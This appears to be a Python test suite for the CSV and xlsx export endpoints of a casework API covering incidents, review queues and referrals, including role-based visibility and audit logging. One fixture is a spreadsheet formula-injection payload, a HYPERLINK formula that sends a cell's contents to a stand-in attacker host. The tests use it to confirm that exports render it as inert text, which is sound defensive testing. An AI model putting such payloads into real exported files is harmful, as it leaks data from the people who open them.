"""Exports of the casework lists as CSV and xlsx (issue 14, item 8): before, an analyst had no way to take the
incident list, review queue or referral list into a spreadsheet (``/export`` was a 422: not an id). Now each
list has an export with the same filters and visibility, its columns in a documented order, every text cell inert
in a spreadsheet, and one audit entry naming the records exported."""

from typing import Any

import httpx

from referrals.incident.schemas import EXPORT_COLUMNS as INCIDENT_COLUMNS
from vru_dev.kits.referrals import Casework
from vru_dev.testing import read_csv, read_xlsx
from vru_shared.exports import headers

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Map")'
WINDOW = {"occurred_from": "2019-05-01", "occurred_to": "2019-06-01"}
INCIDENT_HEADER = [
    "id",
    "crime_reference",
    "occurred_at",
    "district",
    "category",
    "weapon_knife",
    "weapon_firearm",
    "location",
    "screening",
    "screening_source",
    "screening_reason",
    "review_id",
    "created_at",
    "updated_at",
]


def _report(reference: str, district: str, day: int, location: str = "High Street") -> dict[str, Any]:
    return {
        "crime_reference": reference,
        "occurred_at": f"2019-05-{day:02d}T22:40:00Z",
        "district": district,
        "category": "drug-supply-linked",
        "weapon_knife": True,
        "location": location,
        "people": [
            {
                "role": "victim",
                "given_name": "Sam",
                "family_name": "Exportcase" + reference[-6:-3],
                "date_of_birth": "2003-03-14",
                "home_district": district,
            }
        ],
    }


async def _incidents(casework: Casework) -> None:
    reports = [
        _report("46/770001/19", "swale", 3, HOSTILE),
        _report("46/770002/19", "medway", 4),
        _report("46/770003/19", "thanet", 5),
    ]
    response = await casework.client.post(
        "/v1/imports/incidents", json={"reports": reports}, headers=casework.headers(casework.FEED)
    )
    assert response.json()["created"] == 3, response.text


async def _listed(casework: Casework, token: dict[str, Any], **params: str) -> list[str]:
    response = await casework.client.get("/v1/incidents", params=params, headers=casework.headers(token))
    assert response.status_code == 200, response.text
    return [i["id"] for i in response.json()["items"]]


async def _export(casework: Casework, path: str, token: dict[str, Any], **params: str) -> httpx.Response:
    response = await casework.client.get(path, params=params, headers=casework.headers(token))
    assert response.status_code == 200, response.text
    return response


async def test_the_incident_export_has_the_lists_rows_in_the_documented_columns(casework: Casework) -> None:
    await _incidents(casework)
    response = await _export(casework, "/v1/incidents/export", casework.ANALYST, **WINDOW)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="incidents.csv"'
    rows = read_csv(response.content)
    assert rows[0] == INCIDENT_HEADER == headers(INCIDENT_COLUMNS)
    listed = await _listed(casework, casework.ANALYST, **WINDOW)
    assert len(listed) == 3
    assert [r[0] for r in rows[1:]] == listed  # the same rows, in the same order (most recent first)
    swale = rows[-1]
    assert swale[1:4] == ["46/770001/19", "2019-05-03T22:40:00+00:00", "swale"]
    assert swale[5] == "true"
    assert swale[7] == "'" + HOSTILE  # inert: a spreadsheet shows text, runs nothing

    filtered = read_csv(
        (await _export(casework, "/v1/incidents/export", casework.ANALYST, district="swale", **WINDOW)).content
    )
    assert [r[0] for r in filtered[1:]] == await _listed(casework, casework.ANALYST, district="swale", **WINDOW)
    assert len(filtered) == 2


async def test_the_incident_export_as_xlsx_holds_text_never_a_formula(casework: Casework) -> None:
    await _incidents(casework)
    response = await _export(casework, "/v1/incidents/export", casework.ANALYST, format="xlsx", **WINDOW)
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert response.headers["content-disposition"] == 'attachment; filename="incidents.xlsx"'
    sheet = read_xlsx(response.content)
    assert [c.text for c in sheet[0] if c] == INCIDENT_HEADER
    location = sheet[-1][7]
    assert location is not None
    assert (location.kind, location.text, location.formula) == ("inlineStr", HOSTILE, False)
    assert not any(c.formula for row in sheet for c in row if c)


async def test_a_coordinators_incident_export_has_only_what_their_list_shows_and_is_audited(
    casework: Casework,
) -> None:
    await _incidents(casework)
    token = casework.MEDWAY_SWALE
    rows = read_csv((await _export(casework, "/v1/incidents/export", token, **WINDOW)).content)
    exported = [r[0] for r in rows[1:]]
    assert exported == await _listed(casework, token, **WINDOW)
    assert sorted(r[3] for r in rows[1:]) == ["medway", "swale"]  # not the Thanet incident

    entries = [e for e in await casework.audit(str(token["sub"])) if e[0] == "export"]
    assert entries[-1][:2] == ("export", "incident")
    assert sorted(entries[-1][2]) == sorted(exported)
    assert (
        entries[-1][3] == "incident export (format=csv, occurred_from=2019-05-01T00:00:00+01:00, "
        "occurred_to=2019-06-01T00:00:00+01:00)"
    )


async def test_an_unknown_export_format_is_422(casework: Casework) -> None:
    response = await casework.client.get(
        "/v1/incidents/export", params={"format": "pdf"}, headers=casework.headers(casework.ANALYST)
    )
    assert response.status_code == 422
    assert response.json()["type"].endswith("/validation-error")


async def test_the_export_is_for_those_who_read_the_list(casework: Casework) -> None:
    response = await casework.client.get("/v1/incidents/export", headers=casework.headers(casework.AUDITOR))
    assert response.status_code == 403
    assert (await casework.client.get("/v1/incidents/export")).status_code == 401


REVIEW_HEADER = [
    "id",
    "status",
    "area",
    "district",
    "districts",
    "incident_count",
    "subject_count",
    "due_on",
    "overdue",
    "forum_case_ref",
    "outcome_reason",
    "created_at",
    "updated_at",
    "closed_at",
]


async def test_the_review_queue_export_has_the_queues_rows_and_is_audited(casework: Casework) -> None:
    await casework.young_person("46/770101/26", "swale")
    await casework.young_person("46/770102/26", "thanet")
    token = casework.MEDWAY_SWALE
    listed = await casework.client.get("/v1/reviews", params={"limit": 200}, headers=casework.headers(token))
    queue = [r["id"] for r in listed.json()["items"]]
    rows = read_csv((await _export(casework, "/v1/reviews/export", token)).content)
    assert rows[0] == REVIEW_HEADER
    assert [r[0] for r in rows[1:]] == queue
    assert all("swale" in r[4].split() or "medway" in r[4].split() for r in rows[1:])  # only their districts
    assert "thanet" not in {r[3] for r in rows[1:]}
    assert rows[1][5:7] == ["1", "1"]

    sheet = read_xlsx((await _export(casework, "/v1/reviews/export", token, format="xlsx")).content)
    assert [c.text for c in sheet[0] if c] == REVIEW_HEADER
    counts = sheet[1][5]
    assert counts is not None
    assert (counts.kind, counts.text) == ("n", "1")  # a number a spreadsheet can sum

    entry = [e for e in await casework.audit(str(token["sub"])) if e[0] == "export"][-1]
    assert (entry[1], sorted(entry[2]), entry[3]) == ("review", sorted(queue), "review queue export (format=xlsx)")


SHARED_HEADER = [
    "id",
    "status",
    "district",
    "destination_kind",
    "destination_code",
    "destination_name",
    "given_name",
    "family_name",
    "date_of_birth",
    "reason",
    "lawful_basis",
    "consent",
    "sharing_note",
    "agency_reference",
    "status_reason",
    "outcome",
    "referred_by",
    "created_at",
    "updated_at",
    "sent_at",
    "closed_at",
]
FULL_HEADER = [*SHARED_HEADER[:6], "subject_id", *SHARED_HEADER[6:9], "review_id", *SHARED_HEADER[9:]]
YJS = "youth-justice-service"


async def test_the_referral_export_is_the_list_in_each_audiences_view(casework: Casework) -> None:
    partner = await casework.link_partner(YJS)
    young = await casework.young_person("46/770201/26", "swale", given_name=HOSTILE)
    sent = await casework.refer(young, send=True, partner_agency=YJS)
    draft = await casework.refer(await casework.young_person("46/770202/26", "medway"), partner_agency=YJS)

    # VRU staff: every referral of the list, with the young person's and the review's ids
    staff = await casework.client.get(
        "/v1/referrals", params={"partner_agency": YJS}, headers=casework.headers(casework.ANALYST)
    )
    rows = read_csv((await _export(casework, "/v1/referrals/export", casework.ANALYST, partner_agency=YJS)).content)
    assert rows[0] == FULL_HEADER
    assert [r[0] for r in rows[1:]] == [r["id"] for r in staff.json()["items"]] == [draft["id"], sent["id"]]
    assert rows[2][6] == young["subject"]
    assert rows[2][7] == "'" + HOSTILE  # the name is text, inert

    # the partner agency: only what was sent to it, only the shared view's columns
    response = await _export(casework, "/v1/referrals/export", partner, format="csv")
    shared = read_csv(response.content)
    assert shared[0] == SHARED_HEADER
    assert [r[0] for r in shared[1:]] == [sent["id"]]
    assert young["subject"] not in response.text
    assert young["review"] not in response.text

    sheet = read_xlsx((await _export(casework, "/v1/referrals/export", partner, format="xlsx")).content)
    assert [c.text for c in sheet[0] if c] == SHARED_HEADER
    name = sheet[1][6]
    assert name is not None
    assert (name.text, name.formula) == (HOSTILE, False)

    # audited as a disclosure to the agency, naming the referral and the young person
    entry = next(e for e in await casework.audit(partner["sub"]) if e[0] == "export")
    assert entry[:3] == ("export", "referral", [sent["id"], young["subject"]])
    assert entry[3].startswith("referral export: referral shared with ")
    assert entry[3].endswith(f"({YJS}) (format=csv)")


async def test_an_export_with_no_rows_is_just_the_header_and_long_filters_fit_the_audit_log(
    casework: Casework,
) -> None:
    """Found by schemathesis: filters as long as the schema allows made the audit purpose longer than its column
    (200 characters), a 500. The purpose is cut with "…"; the export is made and audited."""
    for path, params in (
        (
            "/v1/incidents/export",
            {
                "crime_reference": "46/123456/26",
                "district": "0" * 63,
                "screening": "in",
                "occurred_from": "2026-11-01T00:00:00Z",
                "occurred_to": "2026-12-01T00:00:00Z",
            },
        ),
        ("/v1/referrals/export", {"forum": "0", "district": "0" * 63}),
        ("/v1/reviews/export", {"district": "0" * 63}),
    ):
        rows = read_csv((await _export(casework, path, casework.ANALYST, **params)).content)
        assert len(rows) == 1, path
    purposes = [e[3] for e in await casework.audit(str(casework.ANALYST["sub"])) if e[0] == "export"]
    assert len(purposes) == 3
    assert purposes[0].startswith("incident export (format=csv, crime_reference=46/123456/26, district=000")
    assert (len(purposes[0]), purposes[0][-1]) == (200, "…")
